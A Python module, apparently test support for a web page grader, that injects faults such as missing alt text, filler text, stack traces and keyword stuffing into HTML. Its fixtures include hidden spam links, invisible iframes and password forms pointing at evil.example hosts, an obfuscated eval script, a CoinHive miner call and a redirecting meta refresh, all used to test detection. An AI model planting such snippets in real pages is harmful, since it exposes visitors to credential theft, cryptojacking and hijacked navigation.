"""Faults that can be added to any page: for the law that no fault, in any number, makes a grade better.

Each changes the HTML of a page as an intruder, a broken deployment or a careless edit would; what else the page is made
of stays as it was fetched.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Final

NUMBERS: Final = (1, 7, 30)
"""Numbers of a counted fault that are tried."""
MIN_FALL: Final = 20
"""Points that the median page loses at least by a grave fault."""
_BODY: Final = re.compile(r"<body\b[^>]*>", re.IGNORECASE)
_HEAD_END: Final = re.compile(r"</head\s*>|(?=<body\b)", re.IGNORECASE)
_MAIN: Final = re.compile(r"(<main\b[^>]*>).*(</main\s*>)", re.IGNORECASE | re.DOTALL)
_TEXT: Final = re.compile(
    r"(<(script|style|textarea|title|svg)\b.*?</\2\s*>|<!--.*?-->|<[^>]*>)|([^<]*[^<\s][^<]*)",
    re.IGNORECASE | re.DOTALL,
)
_LANG: Final = re.compile(r"(<html\b[^>]*?\blang\s*=\s*)(\"[^\"]*\"|'[^']*'|[^\s>]+)", re.IGNORECASE)
_LOREM: Final = (
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore "
    "magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip."
)
_ENGLISH: Final = "In autumn we cut back the plants near the water and sweep the leaves from the path before it rains."
_MISREAD: Final = "Die Gräser müssen größer wachsen, ehe wir die Teichränder säubern – für Frösche.".encode().decode(
    "cp1252"
)


def split_body(html: str) -> tuple[str, str]:
    """(everything up to the content of the body, the rest)."""
    found = _BODY.search(html) or _HEAD_END.search(html)
    return (html[: found.end()], html[found.end() :]) if found else ("", html)


def into_body(added: Callable[[int], str]) -> Callable[[str, int], str]:
    """A mutation that adds something at the end of the body, so many times."""

    def mutate(html: str, count: int) -> str:
        more = "".join(map(added, range(count)))
        before, end, after = html.rpartition("</body>")
        return f"{before}{more}{end}{after}" if end else html + more

    return mutate


def into_head(added: str) -> Callable[[str, int], str]:
    """The same at the end of the head."""

    def mutate(html: str, count: int) -> str:
        found = _HEAD_END.search(html)
        at = found.start() if found else 0
        return html[:at] + added * count + html[at:]

    return mutate


def once(mutation: Callable[[str, int], str]) -> Callable[[str], str]:
    """A counted mutation as one that is made a single time."""
    return lambda html: mutation(html, 1)


def in_texts(change: Callable[[str], str]) -> Callable[[str], str]:
    """A change of every text of the body that is shown."""

    def mutate(html: str) -> str:
        head, body = split_body(html)
        return head + _TEXT.sub(lambda match: match[1] or change(match[3]), body)

    return mutate


def without_main(html: str) -> str:
    """The page without its content: its main part, or the whole body where none is marked."""
    emptied, count = _MAIN.subn(r"\1\2", html)
    return emptied if count else split_body(html)[0] + "</body></html>"


def in_wrong_language(html: str) -> str:
    """A page whose element says another language than its text has; every text is of one language."""
    marked, count = _LANG.subn(r'\1"fi"', html, count=1)
    if not count:
        marked = re.sub(r"<html\b", '<html lang="fi"', html, count=1, flags=re.IGNORECASE)
    return in_texts(lambda text: _ENGLISH if len(text.split()) > 2 else text)(marked)  # noqa: PLR2004


def trace_of(lines: str) -> Callable[[str], str]:
    """A mutation that puts the error output of a program before the content; in a ``<pre>`` it would be a quotation."""

    def mutate(html: str) -> str:
        head, body = split_body(html)
        return f"{head}<div>{lines.replace(chr(10), '<br>' + chr(10))}</div>{body}"

    return mutate


COUNTED: Final[dict[str, Callable[[str, int], str]]] = {
    "hidden casino links": into_body(
        lambda n: f"<div hidden><a href=https://c{n}.win{n}.example/>casino online {n}</a></div>"
    ),
    "links off the screen": into_body(
        lambda n: (
            f"<div style='position:absolute;left:-9999px'><a href=https://c{n}.win{n}.example/>casino {n}</a></div>"
        )
    ),
    "links in the color of the page": into_body(
        lambda n: (
            "<div style='color:#fff;background:#fff'>"
            f"<a style='color:#fff' href=https://c{n}.o{n}.example/>go {n}</a></div>"
        )
    ),
    "images without alternatives": into_body(lambda n: f"<img src=/i{n}.png width=10 height=10>"),
    "fields without labels": into_body(lambda n: f"<input name=f{n}>"),
    "buttons without names": into_body(lambda _: "<button type=button></button>"),
    "empty links": into_body(lambda n: f"<a href=/e{n}></a>"),
    "filling text": into_body(lambda _: f"<p>{_LOREM[:70]}"),
    "missing values": into_body(lambda _: "<p>undefined"),
    "mojibake": into_body(lambda _: "<p>GrÃ¼ÃŸe aus MÃ¼nchen, schÃ¶ne Feiertage"),
    "invisible text": into_body(lambda _: "<p style='color:#fff'>pond care cheap pond buy pond near me best pond"),
    "stuffed words": into_body(lambda _: "<p>cheap pond buy pond cheap pond best pond cheap pond online pond"),
    "warnings of PHP": into_body(
        lambda n: f"<br><b>Warning</b>:  Undefined x in <b>/var/www/a.php</b> on line <b>{n}</b><br>"
    ),
    "scripts that hide what they run": into_body(lambda _: "<script>eval(atob('YWxlcnQoMSk='))</script>"),
    "frames of others that no one sees": into_body(
        lambda n: f"<iframe src=https://t{n}.evil.example/ width=1 height=1></iframe>"
    ),
    "password forms for another site": into_body(
        lambda n: f"<form method=post action=https://e{n}.evil.example/><input type=password aria-label=P></form>"
    ),
    "elements for the mouse": into_body(lambda n: f"<div onclick=go()>{n}</div>"),
    "plain http images": into_body(lambda n: f"<img alt=x width=1 height=1 src=http://img{n}.other.example/x.png>"),
    "empty headings": into_body(lambda _: "<h2></h2>"),
    "empty titles": into_head("<title></title>"),
    "noindex": into_head('<meta name="robots" content="noindex">'),
}
"""Fault -> the page with so many of it."""
WHOLE: Final[dict[str, Callable[[str], str]]] = {
    "emptied main": without_main,
    "filling text everywhere": in_texts(lambda _: _LOREM),
    "an unfilled template": in_texts(lambda _: "{{ page.text }}"),
    "misread text": in_texts(lambda _: _MISREAD),
    "hidden page": once(into_head("<style>body{display:none}</style>")),
    "white on white": once(into_head("<style>body,body *{color:#fff!important;background:#fff!important}</style>")),
    "letters of a pixel": once(into_head("<style>body,body *{font-size:1px!important}</style>")),
    "900 stuffed words": once(into_body(lambda _: "<p>" + "cheap pond buy " * 300 + "</p>")),
    "refresh to another site": once(
        into_head('<meta http-equiv="refresh" content="0;url=https://lead.other.example/">')
    ),
    "wrong language": in_wrong_language,
    "stack trace of Python": trace_of(
        'Traceback (most recent call last):\n  File "/srv/app/views.py", line 41, in show\n    return page.title\n'
        "AttributeError: 'NoneType' object has no attribute 'title'"
    ),
    "stack trace of Java": trace_of(
        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "Page.title()"\n'
        "\tat com.acme.shop.PageController.show(PageController.java:87)\n"
        "\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:166)"
    ),
    "stack trace of Node": trace_of(
        "TypeError: Cannot read properties of undefined (reading 'title')\n"
        "    at show (/srv/app/routes/page.js:41:18)\n    at Layer.handle (/srv/app/node_modules/router/layer.js:95:5)"
    ),
    "stack trace of .NET": trace_of(
        "System.NullReferenceException: Object reference not set to an instance of an object.\n"
        "   at Acme.Shop.PageController.Show(Int32 id) in C:\\src\\Shop\\PageController.cs:line 41\n"
        "   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.Execute()"
    ),
    "stack trace of Ruby": trace_of(
        "NoMethodError (undefined method `title' for nil:NilClass):\n\n"
        "app/controllers/pages_controller.rb:41:in `show'\nactionpack (7.0.4) lib/action_controller/metal.rb:188:in "
        "`dispatch'"
    ),
    "stack trace of Go": trace_of(
        "panic: runtime error: invalid memory address or nil pointer dereference\n\ngoroutine 34 [running]:\n"
        "main.show(0xc0000b4000)\n\t/srv/app/main.go:41 +0x1d\nnet/http.HandlerFunc.ServeHTTP()\n"
        "\t/usr/local/go/src/net/http/server.go:2109 +0x2f"
    ),
    "a coin miner": once(into_body(lambda _: "<script>new CoinHive.Anonymous('k').start()</script>")),
}
"""Fault -> the page with it."""
GRAVE: Final = frozenset(WHOLE) - {"an unfilled template", "letters of a pixel", "white on white"}
"""Faults that leave hardly anything of any page, and that are seen without a browser.

Scripts may fill a template, and rules for all elements give no color or size that is certain without one.
"""
